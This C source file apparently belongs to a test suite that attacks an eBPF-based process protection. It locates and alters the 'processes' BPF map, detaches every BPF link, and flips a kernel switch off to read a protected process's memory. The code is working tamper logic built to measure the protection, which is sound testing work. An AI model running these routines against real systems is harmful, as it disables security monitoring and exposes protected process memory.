/*
 * tamper.c - the protection itself: its maps, links and programs by number, and the kernel switches that its hooks
 * depend on.
 */
#include "../attack.h"
#include "../lib/bpf.h"

enum { VALUE = 64 };

/* For a control: a map named as the real one. */
static int make_process_map(const struct attack *a)
{
	static const char value[VALUE];
	int map = make_map("processes", BPF_MAP_TYPE_HASH, VALUE);

	return map < 0 ? map : set_map_value(map, (unsigned)a->target.pid, value);
}

static int next_id(int command, unsigned after)
{
	union bpf_attr ask = { .start_id = after };
	int failed = bpf_call(command, &ask);

	return failed < 0 ? failed : (int)ask.next_id;
}

static int by_id(int command, int id)
{
	union bpf_attr ask = { .map_id = (unsigned)id };

	return bpf_call(command, &ask);
}

static int is_called(int map, const char *name, struct bpf_map_info *ret_info)
{
	union bpf_attr ask = { .info = { .bpf_fd = (unsigned)map, .info_len = sizeof(*ret_info),
					 .info = (uintptr_t)ret_info } };

	*ret_info = (struct bpf_map_info){ 0 };
	return bpf_call(BPF_OBJ_GET_INFO_BY_FD, &ask) == 0 && strcmp(ret_info->name, name) == 0;
}

/* The descriptor of the map of protected processes; a refusal, rather than -ESRCH, when one was hidden by it. */
static int find_processes(struct attack *a, struct bpf_map_info *ret_info)
{
	int failed = a->options->is_control ? make_process_map(a) : 0, id = 0;

	if (failed < 0)
		return failed;
	failed = -ESRCH;
	while ((id = next_id(BPF_MAP_GET_NEXT_ID, (unsigned)id)) > 0) {
		int map = by_id(BPF_MAP_GET_FD_BY_ID, id);

		if (map < 0) {
			failed = map == -ENOENT ? failed : map;
			continue;
		}
		if (is_called(map, "processes", ret_info) && ret_info->key_size == sizeof(unsigned))
			return map;
		(void)close(map);
	}
	return id < 0 && id != -ENOENT ? id : failed;
}

int alter_map(struct attack *a)
{
	unsigned key = (unsigned)a->target.pid;
	unsigned char value[4 * VALUE] = { 0 };
	struct bpf_map_info info;
	union bpf_attr one = { .key = (uintptr_t)&key };
	int map = find_processes(a, &info), failed;

	if (map == -ESRCH)
		return not_here(a, "no map called processes");
	if (map < 0)
		return map;
	if (info.value_size > sizeof(value))
		return not_here(a, "too large");
	one.map_fd = (unsigned)map;
	if (a->row->number != BPF_MAP_DELETE_ELEM)
		one.value = (uintptr_t)value;
	if (a->row->number == BPF_MAP_FREEZE)
		one = (union bpf_attr){ .map_fd = (unsigned)map };
	failed = bpf_call((int)a->row->number, &one);
	if (failed == -ENOENT)
		return not_here(a, "the victim is not protected");
	if (failed < 0 || a->row->number == BPF_MAP_LOOKUP_ELEM)
		return failed < 0 ? failed : ALLOWED;
	return LEAKED; /* the attacker decides which processes are protected */
}

static int load_nothing(void)
{
	struct code code = { .count = 0 };

	emit(&code, BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 0);
	emit(&code, BPF_JMP | BPF_EXIT, 0, 0, 0, 0);
	return load_code(&code, BPF_PROG_TYPE_RAW_TRACEPOINT, 0, 0);
}

int get_program(struct attack *a)
{
	int id = a->options->is_control ? load_nothing() : 0, fd;

	if (id < 0)
		return id;
	id = next_id(BPF_PROG_GET_NEXT_ID, 0);
	if (id == -ENOENT)
		return not_here(a, "no program loaded");
	fd = id < 0 ? id : by_id(BPF_PROG_GET_FD_BY_ID, id);
	return fd < 0 ? fd : ALLOWED;
}

/* Detaches every link whose kind can be detached. */
int detach_links(struct attack *a)
{
	union bpf_attr open = { .raw_tracepoint = { .name = (uintptr_t)"sys_exit" } };
	int result = -ESRCH, id = 0;

	if (a->options->is_control) {
		open.raw_tracepoint.prog_fd = (unsigned)load_nothing();
		if ((result = bpf_call(BPF_RAW_TRACEPOINT_OPEN, &open)) < 0)
			return result;
	}
	while ((id = next_id(BPF_LINK_GET_NEXT_ID, (unsigned)id)) > 0) {
		union bpf_attr one = { 0 };
		int fd = by_id(BPF_LINK_GET_FD_BY_ID, id);

		result = fd < 0 ? fd : ALLOWED;
		one.link_detach.link_fd = (unsigned)fd;
		if (fd >= 0 && bpf_call(BPF_LINK_DETACH, &one) == 0)
			return LEAKED;
	}
	if (id < 0 && id != -ENOENT)
		return id;
	return result == -ESRCH ? not_here(a, "no link") : result;
}

/* Turns off a switch of the kernel, reads the memory, and turns the switch on again. */
int switch_off(struct attack *a)
{
	char path[PATH_ROOM];
	int failed = expand_path(a, path), result;

	if (failed == 0)
		failed = put_text(path, "0");
	if (failed < 0)
		return failed;
	result = saw_memory(a, a->target.pid, a->target.heap);
	(void)put_text(path, "1");
	return result;
}
